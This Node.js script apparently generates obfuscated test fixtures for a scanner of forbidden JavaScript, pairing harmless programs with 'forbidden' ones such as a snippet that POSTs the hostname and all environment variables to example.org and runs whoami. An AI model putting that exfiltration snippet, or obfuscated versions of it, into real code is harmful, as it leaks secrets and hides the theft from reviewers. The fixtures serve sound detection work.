// Make the samples beside this script, from our own small programs, by published tools.
//
// In an empty folder: npm install --ignore-scripts javascript-obfuscator@5.8.0 \
//   old@npm:javascript-obfuscator@0.28.5 jsfuck@0.4.0
// then: NODE_PATH=node_modules node …/tests/data/obfuscated/generate.js
const fs = require('fs');
const path = require('path');
const newer = require('javascript-obfuscator');
const older = require('old');
const {JSFuck} = require('jsfuck');

const PROGRAMS = {
  forbidden: {
    command: "require('child_process').exec('id');",
    vm: "const vm = require('vm');\nconsole.log(vm.runInNewContext('1 + 1'));",
    binding: "process.binding('fs');",
    steal: "const os = require('os');\nconst https = require('https');\n"
      + "const cp = require('child_process');\nfunction send(text) {\n"
      + "  const r = https.request({host: 'example.org', method: 'POST'});\n"
      + "  r.write(text);\n  r.end();\n}\n"
      + "send(os.hostname() + JSON.stringify(process.env));\ncp.execSync('whoami');",
  },
  harmless: {
    read: "const fs = require('fs');\nconst path = require('path');\n"
      + "const text = fs.readFileSync(path.join(__dirname, 'readme.txt'), 'utf8');\n"
      + "console.log(text.length);",
    sort: "const list = ['pear', 'apple', 'fig'];\nlist.sort();\n"
      + "module.exports = {list, first: () => list[0], join: s => list.join(s)};",
  },
};
const all = {stringArrayThreshold: 1};
const words = ['alpha', 'beta', 'gamma', 'delta', 'lamp', 'stone', 'river', 'cloud',
  'tree', 'house', 'light', 'road'];
const NEWER = {
  default: {},
  low: {optionsPreset: 'low-obfuscation'},
  medium: {optionsPreset: 'medium-obfuscation'},
  base64: {...all, stringArrayEncoding: ['base64']},
  rc4: {...all, stringArrayEncoding: ['rc4']},
  rc4_mangled: {...all, stringArrayEncoding: ['rc4'], stringArrayWrappersCount: 3,
    identifierNamesGenerator: 'mangled-shuffled', stringArrayWrappersType: 'function',
    stringArrayCallsTransform: true},
  base64_words: {...all, stringArrayEncoding: ['base64'], identifiersDictionary: words,
    identifierNamesGenerator: 'dictionary'},
  plain_mangled: {...all, identifierNamesGenerator: 'mangled'},
  split: {...all, splitStrings: true, splitStringsChunkLength: 2},
  flow: {...all, controlFlowFlattening: true, controlFlowFlatteningThreshold: 1},
  defended: {...all, selfDefending: true, disableConsoleOutput: true},
};
const OLDER = {
  counted: all,
  counted_base64: {...all, stringArrayEncoding: 'base64'},
  counted_rc4: {...all, stringArrayEncoding: 'rc4'},
};

function write(kind, program, setting, code) {
  const folder = path.join(__dirname, kind);
  fs.mkdirSync(folder, {recursive: true});
  fs.writeFileSync(path.join(folder, `${program}.${setting}.js`), code + '\n');
}

for (const [kind, programs] of Object.entries(PROGRAMS)) {
  for (const [name, code] of Object.entries(programs)) {
    for (const [tool, settings] of [[newer, NEWER], [older, OLDER]])
      for (const [setting, options] of Object.entries(settings))
        write(kind, name, setting,
          tool.obfuscate(code, {...options, seed: 7}).getObfuscatedCode());
  }
}
write('forbidden', 'binding', 'jsfuck', JSFuck.encode(PROGRAMS.forbidden.binding, true));
write('harmless', 'one', 'jsfuck', JSFuck.encode('x = 1', true));
write('forbidden', 'vm', 'high', newer.obfuscate(PROGRAMS.forbidden.vm,
  {optionsPreset: 'high-obfuscation', seed: 7}).getObfuscatedCode());
